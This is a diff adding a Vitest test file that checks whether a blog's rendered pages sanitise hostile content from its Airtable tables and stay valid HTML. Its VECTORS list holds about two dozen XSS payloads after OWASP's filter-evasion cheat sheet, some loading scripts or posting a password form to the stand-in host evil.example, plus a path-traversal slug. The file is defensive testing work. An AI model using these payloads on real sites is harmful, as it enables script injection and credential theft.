@@ -1,0 +1,240 @@
+import { HtmlValidate } from "html-validate/node";
+import { afterAll, beforeAll, expect, test } from "vitest";
+import type { AirtableEmulator } from "#tests/emulators/airtable/server.ts";
+import { aBook, anAirtable, anArticle, aSupplement, untilStocked } from "#tests/support/library.ts";
+import { Shop } from "#tests/support/shop.ts";
+import { type Page, Visitor } from "#tests/support/visitor.ts";
+
+/** Whoever writes into the founder's tables can write anything: the pages stand, safe and valid. */
+let airtable: AirtableEmulator;
+let shop: Shop;
+let visitor: Visitor;
+
+/** After the OWASP cheat sheet on filter evasion. */
+const VECTORS = [
+  "<script>alert(1)</script>",
+  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+  "<scr<script>ipt>alert(1)</scr</script>ipt>",
+  "<img src=x onerror=alert(1)>",
+  "<img src='https://evil.example/pixel.gif' alt='pixel'>",
+  "<img/src=`x`onerror=alert(1)>",
+  "<a href='javascript:alert(1)'>a</a>",
+  "<a href='jav&#x09;ascript:alert(1)'>b</a>",
+  "<a href=' &#14; javascript:alert(1)'>c</a>",
+  "<a href='JaVaScRiPt:alert(1)'>d</a>",
+  "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>e</a>",
+  "<a href='vbscript:msgbox(1)'>f</a>",
+  "<a href='//evil.example/'>g</a>",
+  "<a href='https://exemple.fr/' target=_blank onclick=alert(1) style='position:fixed;inset:0'>h</a>",
+  "<svg onload=alert(1)><animate attributeName=href values=javascript:alert(1)></svg>",
+  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+  "<iframe src='javascript:alert(1)'></iframe><object data=x></object><embed src=x>",
+  "<style>*{background:url(//evil.example)}</style><link rel=stylesheet href=//evil.example/x.css>",
+  "<form action=//evil.example><input name=password><button>ok</button></form>",
+  "<base href='//evil.example/'><meta http-equiv=refresh content='0;url=//evil.example'>",
+  "<p id=contenu name=body class=button onmouseover=alert(1)>i</p>",
+  "<details open ontoggle=alert(1)><summary>j</summary></details><video><source onerror=alert(1)></video>",
+  "<!--><img src=x onerror=alert(1)>--><noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+  "<textarea></textarea><xmp><img src=x onerror=alert(1)></xmp><plaintext>",
+];
+const MALFORMED =
+  "<p>un<ul>deux<li>trois<p>quatre<li>cinq</ul>six<h4>sept<p>huit</h4><li>neuf</li><td>dix</td>" +
+  "<table>onze<tr><td>douze<th>treize<tr>quatorze</table><a href='/x'>quinze<a href='/y'>seize</a><b><p>dix-sept</b></p>" +
+  "<figcaption>dix-huit</figcaption><h5>dix-neuf</h5><blockquote><h3></h3>vingt</blockquote></div></p>";
+
+const deep = (depth: number) => `${"<blockquote>".repeat(depth)}profond${"</blockquote>".repeat(depth)}`;
+
+beforeAll(async () => {
+  airtable = await anAirtable({
+    articles: [
+      anArticle({ title: "Vecteurs", content: `<p>Début</p>${VECTORS.join("\n")}<p>Fin</p>` }),
+      ...VECTORS.map((vector, index) =>
+        anArticle({
+          title: `Vecteur ${index} ${vector}`,
+          slug: `v${index}`,
+          content: vector,
+          excerpt: vector,
+          author: vector,
+        }),
+      ),
+      anArticle({ title: "Mal formé", content: MALFORMED }),
+      anArticle({ title: "Géant", content: `<p>début</p>${deep(20_000)}${"<p>mot <b>gras</b></p>".repeat(60_000)}` }),
+      anArticle({ title: "Coupé", content: '<p>début</p><p>fin sans <a href="https://exemple.fr/x' }),
+      anArticle({ title: "Sans balises", content: "Une ligne & <3\n\nUne autre" }),
+      anArticle({ title: "Doublon", excerpt: "le premier" }),
+      anArticle({ title: "Doublon", excerpt: "le second" }),
+      anArticle({ title: "Chemin", slug: "../../admin/login?x=<script>" }),
+      anArticle({ title: `${"Très long ".repeat(100)}`, slug: "long", category: "x".repeat(500) }),
+      anArticle({
+        title: "Types",
+        slug: 42,
+        excerpt: ["a"],
+        category: {},
+        author: true,
+        readingTime: "douze",
+        publishedAt: 7,
+        coverImage: "non",
+      }),
+      anArticle({ title: 42 }, "recTitreNombre"),
+      anArticle({ title: undefined }, "recSansTitre"),
+      anArticle({ title: "Contenu nombre", content: 42 }, "recContenuNombre"),
+      anArticle({
+        title: "👩🏽‍💻 \u202eenvers\u0000 \ud800",
+        slug: "emoji",
+        publishedAt: "+275760-09-13T00:00:00.001Z",
+      }),
+      anArticle({ title: "</script><script>alert(1)</script>", slug: "json-ld" }),
+    ],
+    books: [
+      aBook({ "My Rating": 900 }),
+      aBook({ title: "Moins", "My Rating": -4 }),
+      aBook({ title: "Rien", "My Rating": "5" }),
+    ],
+    supplements: [
+      aSupplement({ "Nom Complément": "Cinq mégaoctets", Notes: `<p>${"é".repeat(2_600_000)}</p>` }),
+      aSupplement({
+        "Nom Complément": "<b>Gras</b>",
+        "Moment de prise": "<script>alert(1)</script>",
+        Notes: VECTORS.join(""),
+      }),
+    ],
+  });
+  shop = await Shop.open({ airtable });
+  visitor = new Visitor(shop.url);
+  await untilStocked(shop);
+});
+afterAll(async () => {
+  await shop?.close();
+  await airtable?.close();
+});
+
+const ALLOWED = new Set(
+  "h2 h3 h4 p br hr strong em b i u s blockquote ul ol li a img figure figcaption code pre table caption thead tbody tfoot tr th td div picture source".split(
+    " ",
+  ),
+);
+
+/** What the page holds that its own parts would not. */
+function faults(page: Page): string[] {
+  const found: string[] = [];
+  for (const element of page.document.querySelectorAll(".prose *")) {
+    const name = element.rawTagName.toLowerCase();
+    if (!ALLOWED.has(name)) found.push(`<${name}>`);
+    for (const [attribute, value] of Object.entries(element.attributes)) {
+      if (/^(on|style|id|name|class|target|form)/i.test(attribute) && value !== "table-scroll")
+        found.push(`${name} ${attribute}`);
+      if (attribute === "href" && !/^(https:\/\/|mailto:|tel:|\/(?!\/)|[\w-]+$)/.test(value))
+        found.push(`href ${value}`);
+      if (/^src/i.test(attribute) && !value.startsWith("/media/")) found.push(`${attribute} ${value}`);
+    }
+  }
+  const scripts = page.document.querySelectorAll("script:not([type='application/ld+json'])");
+  if (scripts.length !== 1) found.push(`${scripts.length} scripts`);
+  for (const data of page.document.querySelectorAll("script[type='application/ld+json']")) JSON.parse(data.rawText);
+  return found;
+}
+
+async function everyPage(): Promise<Page[]> {
+  const list = await visitor.open("/articles");
+  const links = list.document.querySelectorAll("main article a").map((link) => link.getAttribute("href") ?? "");
+  const others = await Promise.all(
+    ["/ressources/livres", "/ressources/regime", ...links].map((link) => visitor.open(link)),
+  );
+  return [list, ...others];
+}
+
+test("no page holds a script, a handler, a style or a link that is none of ours, and all are valid HTML", async () => {
+  const pages = await everyPage();
+  expect(pages.length).toBeGreaterThan(35);
+  const validator = new HtmlValidate({
+    extends: ["html-validate:standard"],
+    rules: {
+      "attr-case": "off",
+      "void-style": "off",
+      "attribute-boolean-style": "off",
+      "doctype-style": "off",
+      "attribute-empty-style": "off",
+      "no-inline-style": "off",
+      "long-title": "off",
+      // What the author typed.
+      "tel-non-breaking": "off",
+    },
+  });
+  const found: string[] = [];
+  for (const page of pages) {
+    expect([page.url, page.status]).toEqual([page.url, 200]);
+    found.push(...faults(page).map((fault) => `${page.url}: ${fault}`));
+    // One vector alone is valid when all of them in one text are.
+    if (/\/v\d+$/.test(page.url)) continue;
+    for (const { messages } of (await validator.validateString(page.html)).results) {
+      found.push(...messages.map(({ ruleId, message, selector }) => `${page.url} ${ruleId}: ${message} (${selector})`));
+    }
+  }
+  expect(found.slice(0, 20)).toEqual([]);
+});
+
+test("the words survive: badly written HTML is put in order, plain text is set in paragraphs", async () => {
+  const malformed = await visitor.open("/articles/mal-forme");
+  const text = malformed.document.querySelector(".prose")?.text ?? "";
+  for (const word of "un deux trois quatre cinq six sept huit neuf dix douze treize quinze seize dix-sept vingt".split(
+    " ",
+  )) {
+    expect(text).toContain(word);
+  }
+  const plain = await visitor.open("/articles/sans-balises");
+  expect(plain.document.querySelectorAll(".prose p").map((paragraph) => paragraph.text)).toEqual([
+    "Une ligne & <3",
+    "Une autre",
+  ]);
+  const cut = await visitor.open("/articles/coupe");
+  expect(cut.document.querySelector(".prose")?.text).toContain("fin sans");
+});
+
+test("links to elsewhere carry what they must, links within the site stay plain", async () => {
+  const page = await visitor.open("/articles/vecteurs");
+  const link = page.document.querySelectorAll(".prose a").find((one) => one.text === "h");
+  expect(link?.attributes).toEqual({ href: "https://exemple.fr/", rel: "noopener nofollow ugc" });
+});
+
+test("giant texts are cut, and no page is a burden", async () => {
+  for (const address of ["/articles/geant", "/ressources/regime", "/articles"]) {
+    expect((await visitor.open(address)).html.length).toBeLessThan(600_000);
+  }
+  expect((await visitor.open("/articles/geant")).text).toContain("début");
+});
+
+test("records that cannot be shown are left out by themselves, and the log names them", async () => {
+  const list = await visitor.open("/articles");
+  expect(list.text).toContain("Types");
+  expect(list.text).not.toContain("Contenu nombre");
+  for (const id of ["recTitreNombre", "recSansTitre", "recContenuNombre"]) {
+    expect(shop.logs.some((line) => line.includes("record left out") && line.includes(id))).toBe(true);
+  }
+});
+
+test("two articles of one title have two addresses, and a slug is never a path", async () => {
+  const list = await visitor.open("/articles");
+  const links = list.document.querySelectorAll("main article a").map((link) => link.getAttribute("href") ?? "");
+  expect(new Set(links).size).toBe(links.length);
+  const twins = links.filter((link) => link.startsWith("/articles/doublon"));
+  expect(twins).toHaveLength(2);
+  expect(twins).toContain("/articles/doublon");
+  expect((await visitor.open("/articles/doublon")).text).toContain("le premier");
+  expect(links).toContain("/articles/admin-login-x-script");
+});
+
+test("ratings stay between 0 and 5, and what is no number is no rating", async () => {
+  const page = await visitor.open("/ressources/livres");
+  const labels = page.document
+    .querySelectorAll(".book")
+    .map((book) => book.querySelector("[role=img]")?.getAttribute("aria-label"));
+  expect(labels.map((label) => label?.replace(/\s/g, " "))).toEqual(["Note : 5 sur 5", "Note : 0 sur 5", undefined]);
+});
+
+test("the feed stays well-formed", async () => {
+  const xml = await (await visitor.request("/flux.xml")).text();
+  expect(xml).not.toMatch(/<script|&(?!amp;|lt;|gt;|quot;)/);
+  // biome-ignore lint/suspicious/noControlCharactersInRegex: XML forbids them
+  expect(xml).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]/);
+  expect(xml.match(/<entry>/g)?.length).toBe(xml.match(/<\/entry>/g)?.length);
+});
